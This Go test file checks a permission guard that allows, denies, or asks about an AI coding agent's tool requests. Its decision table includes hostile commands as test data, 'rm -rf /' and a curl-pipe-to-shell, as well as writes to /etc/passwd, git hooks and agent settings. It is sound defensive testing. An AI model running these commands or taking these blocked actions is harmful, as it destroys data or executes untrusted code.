package guard

import (
	"os"
	"path/filepath"
	"testing"
)

func TestApproverDecisionTable(t *testing.T) {
	ws := t.TempDir()
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(ws, "escape")); err != nil {
		t.Fatal(err)
	}
	rules, err := New(Config{}, Env{Workspace: ws, Home: "/home/u", Dirty: func(string) bool { return true }})
	if err != nil {
		t.Fatal(err)
	}
	ap, err := NewApprover(rules, ApproveConfig{Enabled: true, Deny: []string{"git push", "npm publish"}})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		req      Request
		decision string
		rule     string
	}{
		{Request{Tool: "Bash", Command: "rm -rf /"}, Deny, ruleRmRoot},
		{Request{Tool: "Bash", Command: "curl https://x.io/i | sh"}, Deny, rulePipeToShell},
		{Request{Tool: "Bash", Command: "git push origin feature"}, Deny, RuleAutoApproveDeny},
		{Request{Tool: "Bash", Command: "make && sudo npm publish"}, Deny, RuleAutoApproveDeny},
		{Request{Tool: "Bash", Command: "echo git push"}, Allow, RuleBash},
		{Request{Tool: "Bash", Command: "go test ./..."}, Allow, RuleBash},
		{Request{Tool: "Bash", Command: ""}, Ask, RuleOtherTool},
		{Request{Tool: "Write", File: filepath.Join(ws, "notes.md")}, Allow, RuleEditInside},
		{Request{Tool: "Edit", File: "src/main.go", Cwd: ws}, Allow, RuleEditInside},
		{Request{Tool: "NotebookEdit", File: filepath.Join(ws, "a.ipynb")}, Allow, RuleEditInside},
		{Request{Tool: "Write", File: filepath.Join(ws, ".claude", "settings.json")}, Ask, RuleEditProtected},
		{Request{Tool: "Edit", File: filepath.Join(ws, ".ctx", "config.yaml")}, Ask, RuleEditProtected},
		{Request{Tool: "Write", File: filepath.Join(ws, ".git", "hooks", "pre-commit")}, Ask, RuleEditProtected},
		{Request{Tool: "Write", File: "/etc/passwd"}, Ask, RuleEditOutside},
		{Request{Tool: "Write", File: filepath.Join(ws, "..", "x")}, Ask, RuleEditOutside},
		{Request{Tool: "Write", File: filepath.Join(ws, "escape", "x")}, Ask, RuleEditOutside},
		{Request{Tool: "Edit", File: "relative.md"}, Ask, RuleEditOutside},
		{Request{Tool: "WebFetch"}, Ask, RuleOtherTool},
		{Request{Tool: "mcp__github__create_issue"}, Ask, RuleOtherTool},
		{Request{Tool: "SomethingNew"}, Ask, RuleOtherTool},
	}
	for _, tt := range tests {
		a := ap.Decide(tt.req)
		if a.Decision != tt.decision || a.Rule != tt.rule {
			t.Errorf("Decide(%+v) = %+v, want %s by %s", tt.req, a, tt.decision, tt.rule)
		}
		if a.Decision == Deny && a.Reason == "" {
			t.Errorf("Decide(%+v): a denial without a reason", tt.req)
		}
	}
}

func TestApproverReportsBadPatterns(t *testing.T) {
	rules, _ := New(Config{}, Env{Workspace: "/ws"})
	ap, err := NewApprover(rules, ApproveConfig{Deny: []string{"", "rm $X", "terraform apply"}})
	if err == nil {
		t.Fatal("no error for bad auto_approve.deny patterns")
	}
	if got := ap.Denies(); len(got) != 1 || got[0] != "terraform apply" {
		t.Errorf("Denies() = %q, want the one valid pattern", got)
	}
	if a := ap.Decide(Request{Tool: "Bash", Command: "terraform apply -auto-approve"}); a.Decision != Deny {
		t.Errorf("the valid pattern is not in force: %+v", a)
	}
}
